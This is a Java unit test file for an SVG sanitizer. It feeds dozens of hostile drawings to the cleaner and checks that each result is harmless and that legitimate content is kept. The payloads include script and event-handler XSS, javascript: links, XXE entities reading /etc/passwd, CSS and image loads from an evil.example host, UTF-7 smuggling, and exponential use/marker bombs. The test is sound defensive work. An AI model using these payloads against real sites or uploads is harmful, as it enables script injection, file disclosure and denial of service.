package org.herald.media;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import javax.xml.parsers.DocumentBuilderFactory;
import org.herald.testing.Photos;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Element;

/** Drawings that try to run, load or show what is not theirs, as the literature lists them; and drawings that are fine. */
final class HostileDrawingTest {

    private static final String OPEN = "<svg xmlns='http://www.w3.org/2000/svg' "
            + "xmlns:xlink='http://www.w3.org/1999/xlink' viewBox='0 0 9 9'>";

    /** Stands in every hostile drawing, and must be all that is left to see. */
    private static final String HONEST = "<rect id='honest' width='9' height='9'/>";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<script xlink:href='https://evil.example/x.js'/>",
                "<script href='data:text/javascript,alert(1)'/>",
                "<script type='application/ecmascript'><![CDATA[alert(1)]]></script>",
                "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
                "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
                "<g onload='alert(1)'/>",
                "<g ONLOAD='alert(1)' onclick='alert(1)' onmouseover='alert(1)' onfocusin='alert(1)'/>",
                "<g onbegin='alert(1)' onend='alert(1)' onrepeat='alert(1)' onactivate='alert(1)'/>",
                "<a href='javascript:alert(1)'><text>click</text></a>",
                "<a xlink:href='java&#x0A;script:alert(1)'><text>click</text></a>",
                "<a xlink:href='&#106;avascript:alert(1)'><text>click</text></a>",
                "<a href='data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'><text>click</text></a>",
                "<a><animate attributeName='href' to='javascript:alert(1)' begin='0s'/><text>click</text></a>",
                "<a id='l'/><set href='#l' attributeName='xlink:href' to='javascript:alert(1)'/>",
                "<animate xlink:href='#l' attributeName='href' values='javascript:alert(1)'/>",
                "<set attributeName='onmouseover' to='alert(1)'/>",
                "<animateTransform attributeName='transform' onbegin='alert(1)' dur='1s'/>",
                "<animateMotion path='M0 0'><mpath href='https://evil.example/p.svg#p'/></animateMotion>",
                "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/></foreignObject>",
                "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
                "<switch><foreignObject><x:img xmlns:x='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>"
                        + "</foreignObject></switch>",
                "<x:iframe xmlns:x='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/>",
                "<iframe src='https://evil.example/'/>",
                "<embed src='https://evil.example/x.swf'/>",
                "<object data='data:text/html,alert(1)'/>",
                "<image href='https://evil.example/spy.png' width='1' height='1'/>",
                "<image xlink:href='//evil.example/spy.png'/>",
                "<image href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'/>",
                "<image href='data:image/png;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'/>",
                "<image href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='/>",
                "<image href='file:///etc/passwd'/>",
                "<use href='https://evil.example/x.svg#a'/>",
                "<use xlink:href='data:image/svg+xml;base64,PHN2ZyBpZD0iYSIgb25sb2FkPSJhbGVydCgxKSIvPg==#a'/>",
                "<use href='javascript:alert(1)#a'/>",
                "<linearGradient id='g' xlink:href='https://evil.example/g.svg#g'/>",
                "<feImage href='https://evil.example/spy.png'/>",
                "<filter id='f'><feImage xlink:href='//evil.example/spy.png'/></filter>",
                "<textPath href='https://evil.example/x#p'>x</textPath>",
                "<style>@import url(https://evil.example/x.css);</style>",
                "<style>@import 'https://evil.example/x.css'; rect{fill:red}</style>",
                "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}</style>",
                "<style>rect{background:url('https://evil.example/spy')}</style>",
                "<style>rect{fill:u\\72l(https://evil.example/spy)}</style>",
                "<style>rect{-moz-binding:url(https://evil.example/x.xml#x)}</style>",
                "<style>rect{behavior:url(#default#time2)}rect{fill:expression(alert(1))}</style>",
                "<style>a{}*/@import '//evil.example/x';/*{fill:red}</style>",
                "<style>@media all{rect{fill:url(//evil.example/spy)}}</style>",
                "<style>rect[id^='h']{fill:url(//evil.example/h)}</style>",
                "<style>]]&gt;&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
                "<style><script>alert(1)</script>rect{fill:red}</style>",
                "<g style='fill:url(https://evil.example/spy)'/>",
                "<g style='background-image:url(//evil.example/spy)'/>",
                "<g style='fill:red;/**/fill:url( //evil.example/spy )'/>",
                "<g style='fill:image-set(\"//evil.example/spy\" 1x)'/>",
                "<g fill='url(https://evil.example/g.svg#g)'/>",
                "<g filter='url(\"https://evil.example/f.svg#f\")'/>",
                "<g clip-path='url(#x) url(//evil.example/spy)'/>",
                "<g marker-end='ur\\6c(//evil.example/spy)'/>",
                "<g xml:base='https://evil.example/'><use href='#a'/></g>",
                "<handler type='text/javascript'>alert(1)</handler><listener event='load' handler='#x'/>",
                "<metadata><x xmlns='' onload='alert(1)'/></metadata>",
                "<title><script>alert(1)</script></title>",
                "<desc><x:meta xmlns:x='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;javascript:alert(1)'/></desc>",
                "<?xml-stylesheet href='https://evil.example/x.css'?>",
                "<!-- --><!--><script>alert(1)</script>-->",
                "<video xmlns='http://www.w3.org/1999/xhtml' src='//evil.example/x'/><audio src='//evil.example/x'/>",
                "<g xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load' ev:handler='javascript:alert(1)'/>",
                "<cursor id='c' href='//evil.example/c.cur'/><g cursor='url(//evil.example/c.cur)'/>",
                "<tref xlink:href='file:///etc/passwd'/>",
                "<font-face-uri href='//evil.example/x.svg#f'/>",
            })
    void nothingRunsLoadsOrMoves(String attack) throws Exception {
        String result = cleaned(OPEN + attack + HONEST + "</svg>");

        assertHarmless(result);
        assertTrue(result.contains("id=\"honest\""), result);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + HONEST + "</svg>",
                "<?xml-stylesheet type='text/xsl' href='https://evil.example/x.xsl'?><svg>" + HONEST + "</svg>",
                "<!DOCTYPE svg SYSTEM 'https://evil.example/x.dtd'><svg>" + HONEST + "</svg>",
                "<svg xmlns='http://www.w3.org/2000/svg'>" + HONEST + "</svg><!-- <script>alert(1)</script> -->",
                "<svg xmlns='http://www.w3.org/2000/svg' xmlns:s='http://www.w3.org/2000/svg'>" + HONEST
                        + "<s:script>alert(1)</s:script></svg>",
            })
    void theRootAndWhatStandsAroundItAreCleanedToo(String attack) throws Exception {
        String result = cleaned(attack);

        assertHarmless(result);
        assertTrue(result.startsWith("<svg ") && result.contains("xmlns=\"http://www.w3.org/2000/svg\""), result);
        assertTrue(result.contains("id=\"honest\""), result);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg><text>&x;</text></svg>",
                "<!DOCTYPE svg [<!ENTITY % x SYSTEM 'https://evil.example/x.dtd'> %x;]><svg/>",
                "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><svg><text>&b;</text></svg>",
                "<!doctype SVG [<!ATTLIST svg onload CDATA 'alert(1)'>]><svg/>",
                "<?xml version='1.0'?>\n<!DOCTYPE svg PUBLIC 'x' 'y' [ ]><svg/>",
            })
    void documentTypesWithDeclarationsAreRefused(String attack) {
        assertEquals("refused.picture-entities", refusal(attack));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<svg xmlns='http://www.w3.org/2000/svg'><text>&nothing;</text></svg>",
                "<svg xmlns='http://www.w3.org/2000/svg'><g></svg>",
                "<svg xmlns='http://www.w3.org/2000/svg'>",
                "<svg xmlns='http://www.w3.org/2000/svg'><g a='1' a='2'/></svg>",
                "<svg xmlns='http://www.w3.org/2000/svg'/><script/>",
                "<svg xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></svg>",
                "<svg xmlns='http://www.w3.org/2000/svg'><use xlink:href='#a'/></svg>",
                "<svg xmlns='http://www.w3.org/2000/svg'><text>\u0000</text></svg>",
                "<svg/ onload=alert(1)>",
            })
    void whatIsNotWellFormedIsRefused(String attack) {
        assertTrue(
                List.of("refused.picture-damaged", "refused.picture-entities").contains(refusal(attack)));
    }

    @Test
    void otherEncodingsHideNothing() throws Exception {
        String attack = "<?xml version='1.0' encoding='windows-1251'?>" + OPEN
                + "<title>Замак</title><script>1</script>" + HONEST + "</svg>";
        String result = text(Drawing.cleaned(attack.getBytes(Charset.forName("windows-1251"))));

        assertHarmless(result);
        assertTrue(result.contains("<title>Замак</title>"), result);
        assertEquals(Optional.empty(), MediaType.of(attack.getBytes(StandardCharsets.UTF_16)));
        String hidden =
                "<?xml version='1.0' encoding='UTF-7'?>" + OPEN + "+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>";
        assertEquals("refused.picture-damaged", refusal(hidden));
    }

    @Test
    void usesOfUsesOfUsesAreRefusedBeforeABrowserCountsThem() {
        var bomb = new StringBuilder(OPEN).append("<g id='u0'><path d='M0 0'/></g>");
        for (int i = 1; i <= 30; i++) {
            bomb.append("<g id='u").append(i).append("'>");
            bomb.append(("<use href='#u" + (i - 1) + "'/>").repeat(10)).append("</g>");
        }
        assertEquals("refused.picture-complex", soon(bomb.append("</svg>").toString()));

        var chain = new StringBuilder(OPEN);
        for (int i = 0; i < 20_000; i++) {
            chain.append("<use id='c")
                    .append(i)
                    .append("' href='#c")
                    .append(i + 1)
                    .append("'/>");
        }
        assertEquals("refused.picture-complex", soon(chain.append("</svg>").toString()));
        assertEquals("", soon(OPEN + "<use id='a' href='#b'/><use id='b' href='#a'/></svg>"));
    }

    @Test
    void deepAndEndlessDrawingsAreRefused() {
        assertTrue(List.of("refused.picture-complex", "refused.picture-damaged")
                .contains(soon(OPEN + "<g>".repeat(5_000) + "</g>".repeat(5_000) + "</svg>")));
        assertEquals("refused.picture-complex", soon(OPEN + "<path d='M0 0'/>".repeat(300_000) + "</svg>"));
    }

    @Test
    void hugeStylesAndValuesTakeNoTime() {
        assertEquals("", soon(OPEN + "<style>" + "@a{}".repeat(500_000) + "</style></svg>"));
        assertEquals("", soon(OPEN + "<style>" + "{".repeat(2_000_000) + "</style></svg>"));
        assertEquals("", soon(OPEN + "<style>" + "/*".repeat(1_000_000) + "</style></svg>"));
        assertEquals("", soon(OPEN + "<style>" + "a;".repeat(1_000_000) + "</style></svg>"));
        assertEquals("", soon(OPEN + "<path d='" + "M0 0".repeat(1_000_000) + "'/></svg>"));
        assertEquals("", soon(OPEN + "<g fill='" + "url(#a".repeat(500_000) + "'/></svg>"));
        assertEquals("", soon(OPEN + "<text>" + "x".repeat(5_000_000) + "</text></svg>"));
        assertEquals("", soon(OPEN + "<image href='data:image/png;base64," + " A".repeat(1_000_000) + "'/></svg>"));
    }

    @Test
    void drawingOfADrawingProgramKeepsWhatItShows() throws UnfitPicture {
        String result = cleaned("""
                <?xml version="1.0" encoding="UTF-8" standalone="no"?>
                <!-- Created with a program -->
                <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
                <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
                     xmlns:ink="http://www.inkscape.org/namespaces/inkscape" width="120" height="80"
                     viewBox="0 0 120 80" ink:version="1.2" role="img" aria-label="Castle">
                  <title>Castle &amp; lake</title>
                  <style type="text/css"><![CDATA[
                    .wall { fill: #a33; stroke: url(#sky); }
                    .st0, .st1 > path { opacity: .5 }
                    @media print { .wall { fill: #000 } }
                  ]]></style>
                  <defs>
                    <linearGradient id="sky"><stop offset="0" stop-color="#9cf"/><stop offset="1"/></linearGradient>
                    <linearGradient id="dusk" xlink:href="#sky" gradientTransform="rotate(90)"/>
                    <filter id="soft"><feGaussianBlur stdDeviation="2"/></filter>
                    <clipPath id="cut"><circle cx="9" cy="9" r="9"/></clipPath>
                  </defs>
                  <metadata><private xmlns="urn:x">Jan</private></metadata>
                  <g transform="translate(1 2)" filter="url(#soft)" clip-path="url('#cut')" ink:label="Layer 1">
                    <path class="wall" d="M0,0 L10,10 z" style="fill:url(#dusk);stroke-width:2;-ink-font:x"/>
                    <use xlink:href="#sky" x="3"/>
                    <a href="https://example.org/"><text x="4" y="5">Mir <tspan font-weight="700">1520</tspan></text></a>
                  </g>
                </svg>
                """);

        for (String kept : List.of(
                "aria-label=\"Castle\"",
                "viewBox=\"0 0 120 80\"",
                "<title>Castle &amp; lake</title>",
                ".wall{fill:#a33;stroke:url(#sky)}.st0, .st1 &gt; path{opacity:.5}",
                "<linearGradient gradientTransform=\"rotate(90)\" href=\"#sky\" id=\"dusk\"/>",
                "<feGaussianBlur stdDeviation=\"2\"/>",
                "clip-path=\"url('#cut')\" filter=\"url(#soft)\" transform=\"translate(1 2)\"",
                "style=\"fill:url(#dusk);stroke-width:2\"",
                "<use href=\"#sky\" x=\"3\"/>",
                "<text x=\"4\" y=\"5\">Mir <tspan font-weight=\"700\">1520</tspan></text>")) {
            assertTrue(result.contains(kept), kept + " in " + result);
        }
        for (String gone : List.of("ink", "private", "Jan", "DOCTYPE", "<!--", "@media", "example.org", "<a")) {
            assertFalse(result.contains(gone), gone);
        }
        assertEquals(new PictureSize(120, 80), PictureSize.of(MediaType.SVG, bytes(result)));
    }

    @Test
    void photosInsideADrawingAreCleanedToo() throws UnfitPicture {
        byte[] noted = Photos.withSegment(Photos.jpeg(8, 8), 0xFE, bytes(Photos.SECRET));
        String embedded = "data:image/jpeg;base64," + Base64.getEncoder().encodeToString(noted);
        String result = cleaned(OPEN + "<image width='8' height='8' href='" + embedded + "'/></svg>");

        int from = result.indexOf("base64,") + "base64,".length();
        byte[] kept = Base64.getDecoder().decode(result.substring(from, result.indexOf('"', from)));
        assertEquals(8, Photos.read(kept).getWidth());
        assertFalse(Photos.says(kept, Photos.SECRET));
    }

    @Test
    void whatWasCleanedStaysAsItIs() throws UnfitPicture {
        String once = cleaned(OPEN + "<style>a,b{fill:red}</style><text>a\n &lt;b&gt; &amp; \"c\"</text></svg>");

        assertEquals(once, cleaned(once));
    }

    /** Every element and every value of the result, looked at as a browser would. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "marker-mid='url(#mN)'",
                "style='marker-mid: url(&quot;#mN&quot;)'",
                "fill='url(#mN)' stroke='url(#mN)'/><path d='M0 0L1 1' fill='url(#mN)'",
                "mask='url(#mN)'/><path d='M0 0L1 1' clip-path='url(#mN)'/><path d='M0 0L1 1' filter='url(#mN)'"
            })
    void whatIsDrawnAgainAndAgainInItselfIsRefused(String reference) {
        for (String name : List.of("marker", "pattern", "mask")) {
            if (reference.contains("marker") && !name.equals("marker")) {
                continue;
            }
            var drawing = new StringBuilder(OPEN);
            for (int level = 0; level < 24; level++) {
                String next = reference.replace("N", String.valueOf(level + 1));
                drawing.append(
                        "<" + name + " id='m" + level + "'><path d='M0 0L1 1L2 2' " + next + "/></" + name + ">");
            }
            drawing.append("<path d='M0 0L1 1L2 2' " + reference.replace("N", "0") + "/></svg>");

            assertEquals("refused.picture-complex", soon(drawing.toString()), name);
        }
    }

    private static void assertHarmless(String result) throws Exception {
        assertFalse(result.contains("<!") || result.contains("<?"), result);
        var factory = DocumentBuilderFactory.newDefaultNSInstance();
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        var document = factory.newDocumentBuilder().parse(new ByteArrayInputStream(bytes(result)));
        var all = document.getElementsByTagName("*");
        var faults = new ArrayList<String>();
        for (int i = 0; i < all.getLength(); i++) {
            var element = (Element) all.item(i);
            String name = element.getLocalName().toLowerCase(Locale.ROOT);
            if (!"http://www.w3.org/2000/svg".equals(element.getNamespaceURI())
                    || name.matches("a|script|foreignobject|iframe|embed|object|set|animate.*|feimage|handler")) {
                faults.add(name);
            }
            if (name.equals("style")) {
                faults.addAll(loads(element.getTextContent()));
            }
            var attributes = element.getAttributes();
            for (int k = 0; k < attributes.getLength(); k++) {
                String attribute = attributes.item(k).getNodeName().toLowerCase(Locale.ROOT);
                String value = attributes.item(k).getNodeValue();
                if (attribute.startsWith("on") || attribute.equals("xml:base") || attribute.contains("src")) {
                    faults.add(attribute);
                }
                if (attribute.endsWith("href") && !value.startsWith("#")) {
                    faults.add(attribute + "=" + value);
                }
                faults.addAll(attribute.equals("xmlns") ? List.of() : loads(value));
            }
        }
        assertEquals(List.of(), faults, result);
    }

    private static List<String> loads(String value) {
        String lower = value.toLowerCase(Locale.ROOT).replaceAll("url\\(['\"]?#[\\w-]+['\"]?\\)", "");
        return lower.matches("(?s).*(url\\(|//|@|\\\\|javascript|expression|data:|image-set|binding|behavior).*")
                ? List.of(value)
                : List.of();
    }

    private static String soon(String drawing) {
        return assertTimeoutPreemptively(Duration.ofSeconds(20), () -> refusal(drawing));
    }

    /** The key of the reason; empty when the drawing can be kept. */
    private static String refusal(String drawing) {
        try {
            Drawing.cleaned(bytes(drawing));
            return "";
        } catch (UnfitPicture unfit) {
            return unfit.key();
        }
    }

    private static String cleaned(String drawing) throws UnfitPicture {
        return text(Drawing.cleaned(bytes(drawing)));
    }

    private static String text(byte[] bytes) {
        return new String(bytes, StandardCharsets.UTF_8);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
